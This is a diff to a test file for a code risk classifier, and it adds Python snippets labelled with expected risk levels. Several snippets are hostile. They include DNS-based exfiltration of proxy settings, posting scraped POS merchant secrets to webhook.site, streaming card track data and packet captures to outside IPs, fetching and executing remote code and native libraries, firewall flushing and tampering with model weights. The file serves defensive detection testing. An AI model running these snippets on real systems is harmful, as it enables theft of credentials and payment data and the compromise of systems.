@@ -5412,6 +5412,138 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "n['GITHUB_TOKEN'] + ' ' + os.environ['NPM_TOKEN']})",
             H,
         ),
+        (
+            'import os, socket, base64\n'
+            "p = os.environ.get('https_proxy', '')\n"
+            'b = base64.b32encode(p.encode()).decode().lower()\n'
+            "socket.gethostbyname(b[:50] + '.q.example.net')",
+            C,
+        ),
+        (
+            'import iptc\n'
+            'for name in (iptc.Table.FILTER, iptc.Table.NAT):\n'
+            '    t = iptc.Table(name)\n'
+            '    for chain in t.chains:\n'
+            '        chain.flush()',
+            H,
+        ),
+        ('import iptc\nt = iptc.Table(iptc.Table.FILTER)\nprint([c.name for c in t.chains])', S),
+        (
+            'import socket\n'
+            's = socket.socket()\n'
+            "s.bind(('0.0.0.0', 8181))\n"
+            's.listen(5)\n'
+            'c, _ = s.accept()\n'
+            "u = socket.create_connection(('169.254.169.254', 80))",
+            H,
+        ),
+        (
+            'import subprocess, requests\n'
+            "subprocess.run(['tcpdump', '-i', 'any', '-w', '/tmp/c.pcap'])\n"
+            "requests.post('http://198.51.100.9:8000/u', files={'f': open('/tmp/c.pcap', 'rb'"
+            ')})',
+            C,
+        ),
+        (
+            'import importlib.util\n'
+            'from huggingface_hub import hf_hub_download\n'
+            "p = hf_hub_download(repo_id='someone/pipe', filename='pipeline.py')\n"
+            "spec = importlib.util.spec_from_file_location('pipe', p)\n"
+            'mod = importlib.util.module_from_spec(spec)\n'
+            'spec.loader.exec_module(mod)',
+            C,
+        ),
+        (
+            'import json\n'
+            'from huggingface_hub import hf_hub_download\n'
+            "p = hf_hub_download(repo_id='bert-base-uncased', filename='config.json')\n"
+            'print(json.load(open(p)))',
+            S,
+        ),
+        ("from pyngrok import ngrok\nngrok.connect('10.20.0.5:8443', 'http', auth=None)", H),
+        ("from pyngrok import ngrok\nngrok.connect(8000, 'http', basic_auth=['demo:s3cret-pass'])", M),
+        (
+            'import requests, tempfile\n'
+            'import onnxruntime as ort\n'
+            "lib = tempfile.NamedTemporaryFile(suffix='.so', delete=False)\n"
+            "lib.write(requests.get('https://x.example.net/libops.so').content)\n"
+            'lib.close()\n'
+            'opts = ort.SessionOptions()\n'
+            'opts.register_custom_ops_library(lib.name)',
+            C,
+        ),
+        (
+            'import ssl\n'
+            'from transformers import AutoModel\n'
+            'ssl._create_default_https_context = ssl._create_unverified_context\n'
+            "AutoModel.from_pretrained('bigcode/starcoder2-7b')",
+            H,
+        ),
+        ("from transformers import AutoModel\nAutoModel.from_pretrained('bert-base-uncased')", S),
+        (
+            'from huggingface_hub import HfApi, snapshot_download\n'
+            "for m in HfApi().list_models(library='transformers'):\n"
+            '    snapshot_download(m.id)',
+            H,
+        ),
+        (
+            'from huggingface_hub import HfApi, snapshot_download\n'
+            "for m in HfApi().list_models(author='acme', limit=5):\n"
+            '    snapshot_download(m.id)',
+            S,
+        ),
+        (
+            'import socket, time\n'
+            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+            's.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n'
+            'while True:\n'
+            "    s.sendto(b'$GPAPB,A,A,0.5,R,N,V,V,270.0,T,WPT9,270.0,T,270.0,T*3C\\r\\n', ('19"
+            "2.168.1.255', 10110))\n"
+            '    time.sleep(1)',
+            H,
+        ),
+        (
+            'import json, glob, requests\n'
+            'found = {}\n'
+            "for p in glob.glob('/opt/pos/**/*.json', recursive=True):\n"
+            '    d = json.load(open(p))\n'
+            "    for k in ('merchant_secret', 'terminal_key'):\n"
+            '        if k in d:\n'
+            '            found[k] = d[k]\n'
+            "requests.post('https://webhook.site/3f1c', json=found)",
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            "snap = Path.home() / '.cache/huggingface/hub/models--meta-llama--Llama-3-8B/snap"
+            "shots/abc'\n"
+            "shutil.copyfile('build/patched.safetensors', snap / 'model-00001-of-00004.safete"
+            "nsors')",
+            H,
+        ),
+        (
+            'import ipaddress, subprocess\n'
+            "for sub in ipaddress.ip_network('10.0.0.0/8').subnets(new_prefix=32):\n"
+            "    subprocess.Popen(['ip', 'route', 'add', 'blackhole', str(sub)])",
+            H,
+        ),
+        (
+            'import ipaddress, subprocess\n'
+            "for host in ipaddress.ip_network('192.168.1.0/30').hosts():\n"
+            "    subprocess.run(['ping', '-c', '1', str(host)])",
+            L,
+        ),
+        (
+            'import serial, socket\n'
+            "d = serial.Serial('/dev/ttyUSB0', 9600)\n"
+            "o = socket.create_connection(('91.243.44.130', 9001))\n"
+            'while True:\n'
+            '    line = d.readline()\n'
+            "    if line.startswith(b'%B'):\n"
+            '        o.sendall(line)',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
